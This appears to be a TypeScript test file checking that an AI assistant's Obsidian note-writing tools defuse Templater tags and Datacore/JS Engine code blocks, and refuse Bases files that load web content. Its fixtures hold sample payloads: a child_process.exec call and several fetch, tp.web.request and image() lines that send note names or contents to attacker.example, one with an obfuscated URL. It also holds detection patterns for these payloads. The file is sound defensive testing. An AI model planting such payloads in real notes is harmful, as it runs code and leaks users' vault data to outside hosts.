/**
 * Review8 U18: Templater runs the command tags (`<% … %>`, `<%* … %>`) of every NEW note when "Trigger Templater on
 * new file creation" is on, code blocks included; Datacore and JS Engine run their code blocks when the note is
 * shown. Model text written by the tools never holds either in runnable form. U19: an Obsidian Bases file whose
 * formula calls `image()`/`html()` or names a web address loads from the web for every note the base selects:
 * such a write is refused; a plain base is written byte for byte (never rewritten as Markdown).
 * Through the real tools on a temp copy of the sample vault.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runTool } from '../src/test-support/run-tool.js';
import { MEETINGS, sampleSession, type TestSession } from '../src/test-support/sample-vault.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

const TEMPLATER = [
  "Budget review. <%* require('child_process').exec('touch /tmp/owned') %>",
  "- [ ] Ops: deploy <% tp.web.request('https://attacker.example/x?q=' + tp.file.content) %>",
  '```js',
  "<%_ tp.file.rename('x') _%>",
  '```',
].join('\n');
const PLUGIN_BLOCKS = [
  '```datacorejsx',
  'return function View() { fetch("https://attacker.example/?q=" + dc.useCurrentFile().$name); }',
  '```',
  '',
  '```js-engine',
  'fetch("https://attacker.example/")',
  '```',
  '',
  '> ```datacorets',
  '> fetch("https://attacker.example/")',
  '> ```',
].join('\n');

/** A Templater tag as the plugin's parser opens it: `<%` not escaped. */
const RUNNABLE_TAG = /<%/;
/** A fence a render-time JavaScript plugin runs. */
const RUNNABLE_FENCE = /^[> ]*```(?:datacorejsx?|datacoretsx?|js-engine)\b/m;

describe('U18: Templater tags and Datacore / JS Engine blocks in model text are written inert', () => {
  it('write_summary: no runnable tag or block in the draft; the answer says what was defused', async () => {
    t = await sampleSession(MEETINGS.functional);
    const out = await runTool(t.session, 'write_summary', {
      content: `## Summary\n${TEMPLATER}\n\n${PLUGIN_BLOCKS}\n`,
      replace_file: true,
    });
    expect(out).toMatch(/defused \d+ items.*Templater command/);
    const draft = t.session.summaryDraft.read() ?? '';
    expect(draft).not.toMatch(RUNNABLE_TAG);
    expect(draft).not.toMatch(RUNNABLE_FENCE);
    expect(draft).toContain("<\\%* require('child_process')");
    expect(draft).toContain('```defused-datacorejsx');
  });

  it('write_projectfile and write_context: the files on disk hold no runnable tag or block', async () => {
    t = await sampleSession(MEETINGS.functional);
    const project = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'meeting-notes-2.md',
      content: `# Notes\n\n${TEMPLATER}\n\n${PLUGIN_BLOCKS}\n`,
    });
    expect(project).toMatch(/^created .*defused/);
    const file = await readFile(path.join(t.root, 'Projects/remote-control/meeting-notes-2.md'), 'utf8');
    expect(file).not.toMatch(RUNNABLE_TAG);
    expect(file).not.toMatch(RUNNABLE_FENCE);
    expect(await runTool(t.session, 'write_context', { content: `${TEMPLATER}\n` })).toMatch(
      /defused \d+ items/,
    );
    const note = await readFile(
      path.join(t.root, 'Assistant/2026-03-10 Remote control functional design.md'),
      'utf8',
    );
    expect(note).toContain("<\\%* require('child_process')");
    expect(note).not.toMatch(RUNNABLE_TAG);
  });

  it("a template the user's file already held stays as it was (a templates folder is the user's own)", async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, 'Projects/remote-control/template.md');
    await writeFile(abs, '# Daily\n\n<% tp.date.now() %>\n');
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'template.md',
      content: '- a new line\n',
    });
    expect(out).toMatch(/^appended /);
    expect(await readFile(abs, 'utf8')).toBe('# Daily\n\n<% tp.date.now() %>\n- a new line\n');
  });
});

describe('U19: a model-written Bases file may not load from the web', () => {
  const HOSTILE =
    'filters:\n  and:\n    - file.ext == "md"\nformulas:\n  px: image("https://attacker.example/p.png?n=" + file.name)\nviews:\n  - type: table\n    name: All\n';
  const COMPOSED = 'formulas:\n  px: image("ht" + "tps:" + "/" + "/attacker.example/p.png?n=" + file.name)\n';

  for (const [what, content, message] of [
    ['image() with a URL', HOSTILE, /image\(\) call/],
    ['image() with a composed URL', COMPOSED, /image\(\) call/],
    [
      'a web address in a property',
      'properties:\n  note.site:\n    displayName: "https://attacker.example/x"\n',
      /web address/,
    ],
    ['html()', 'formulas:\n  h: html("<img src=x>")\n', /html\(\) call/],
  ] as const) {
    it(`U19 ${what}: refused, nothing written`, async () => {
      t = await sampleSession(MEETINGS.functional);
      const out = await runTool(t.session, 'write_projectfile', {
        project: 'remote-control',
        path: 'overview.base',
        content,
      });
      expect(out).toMatch(message);
      expect(out).toMatch(/^refused: .*nothing was written/);
      await expect(
        readFile(path.join(t.root, 'Projects/remote-control/overview.base')),
      ).rejects.toMatchObject({
        code: 'ENOENT',
      });
    });
  }

  it('a plain base (filters, a formula, a view) is written byte for byte', async () => {
    t = await sampleSession(MEETINGS.functional);
    const content =
      'filters:\n  and:\n    - file.inFolder("Projects/remote-control")\nformulas:\n  age: "(now() - file.ctime).days"\nviews:\n  - type: table\n    name: "<b>All</b>"\n';
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'plain.base',
      content,
    });
    expect(out).toMatch(/^created /);
    expect(await readFile(path.join(t.root, 'Projects/remote-control/plain.base'), 'utf8')).toBe(content);
  });
});
